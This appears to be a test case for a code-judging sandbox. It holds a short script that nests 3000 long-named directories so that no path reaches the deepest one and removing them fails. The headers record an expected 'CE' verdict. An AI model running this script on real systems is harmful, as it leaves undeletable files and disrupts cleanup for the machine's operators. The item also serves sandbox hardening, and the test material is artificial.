# attack: folders inside of folders until no path reaches the last, so that removing them fails
# verdict: CE
# because: made no program
# after: nothing left
python3 - << 'end'
import os
for _ in range(3000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
end
exit 0
